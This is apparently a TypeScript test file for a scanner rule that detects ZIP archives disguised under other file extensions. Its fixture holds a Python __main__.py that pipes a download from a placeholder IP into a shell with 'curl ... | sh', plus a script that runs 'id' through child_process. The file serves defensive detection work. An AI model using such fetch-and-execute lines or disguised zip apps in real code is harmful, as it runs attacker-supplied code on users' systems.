import assert from 'node:assert/strict';
import { it } from 'node:test';
import { ruleTest } from '../../testing/rule-tester.js';
import rule, { zipEntryNames } from './disguised-archive.js';

/** A stored (uncompressed) ZIP with the given entries: local headers, central directory, end record. */
function storedZip(entries: Record<string, string>): Uint8Array {
  const enc = new TextEncoder();
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const [name, body] of Object.entries(entries)) {
    const n = enc.encode(name);
    const data = enc.encode(body);
    const local = new Uint8Array(30 + n.length + data.length);
    const lv = new DataView(local.buffer);
    lv.setUint32(0, 0x04034b50, true);
    lv.setUint32(18, data.length, true);
    lv.setUint32(22, data.length, true);
    lv.setUint16(26, n.length, true);
    local.set(n, 30);
    local.set(data, 30 + n.length);
    const central = new Uint8Array(46 + n.length);
    const cv = new DataView(central.buffer);
    cv.setUint32(0, 0x02014b50, true);
    cv.setUint32(20, data.length, true);
    cv.setUint32(24, data.length, true);
    cv.setUint16(28, n.length, true);
    cv.setUint32(42, offset, true);
    central.set(n, 46);
    locals.push(local);
    centrals.push(central);
    offset += local.length;
  }
  const cdSize = centrals.reduce((s, c) => s + c.length, 0);
  const end = new Uint8Array(22);
  const ev = new DataView(end.buffer);
  ev.setUint32(0, 0x06054b50, true);
  ev.setUint16(8, centrals.length, true);
  ev.setUint16(10, centrals.length, true);
  ev.setUint32(12, cdSize, true);
  ev.setUint32(16, offset, true);
  const out = new Uint8Array(offset + cdSize + 22);
  let p = 0;
  for (const part of [...locals, ...centrals, end]) {
    out.set(part, p);
    p += part.length;
  }
  return out;
}

const zipApp = storedZip({ '__main__.py': 'import os\nos.system("curl http://1.2.3.4/x | sh")\n', 'lib/helper.py': 'X = 1\n' });

it('zipEntryNames reads the central directory, and nothing from junk', () => {
  assert.deepEqual(zipEntryNames(zipApp), ['__main__.py', 'lib/helper.py']);
  assert.deepEqual(zipEntryNames(new Uint8Array(100)), []);
  const cut = zipApp.subarray(0, zipApp.length - 10); // a truncated end record
  assert.deepEqual(zipEntryNames(cut), []);
});

ruleTest(rule, {
  clean: [
    { name: 'a real .zip fixture of code', file: 'test/fixtures/sample-project.zip', bytes: zipApp },
    { name: 'a Python wheel', file: 'dist/pkg-1.0-py3-none-any.whl', bytes: storedZip({ 'pkg/__init__.py': '', 'pkg-1.0.dist-info/METADATA': 'Name: pkg\n' }) },
    { name: 'a Word document', file: 'docs/brief.docx', bytes: storedZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' }) },
    { name: 'PyTorch weights saved as .pth (a ZIP of pickles)', file: 'models/resnet.pth', bytes: storedZip({ 'archive/data.pkl': 'x', 'archive/version': '3' }) },
    { name: 'a ZIP of data under an odd name', file: 'data/tiles.pack', bytes: storedZip({ 'tiles/0.png': 'x', 'tiles/1.png': 'y' }) },
    { name: 'a text file starting with PK', file: 'notes/PK.txt', code: 'PK notes: nothing here\n' },
  ],
  flagged: [
    {
      name: 'a Python zip app named like a type stub (python runs it)',
      file: 'httpserver/_websocket.typed',
      bytes: zipApp,
      findings: [{ line: 1, severity: 'high', confidence: 'high', message: /__main__\.py: `python _websocket\.typed` runs it/ }],
    },
    {
      name: 'a ZIP of scripts named .dat',
      file: 'assets/cache.dat',
      bytes: storedZip({ 'run.js': 'require("child_process").exec("id")', 'x.sh': 'id' }),
      findings: [{ line: 1, severity: 'medium', message: /ZIP archive holding 2 code file/ }],
    },
  ],
});
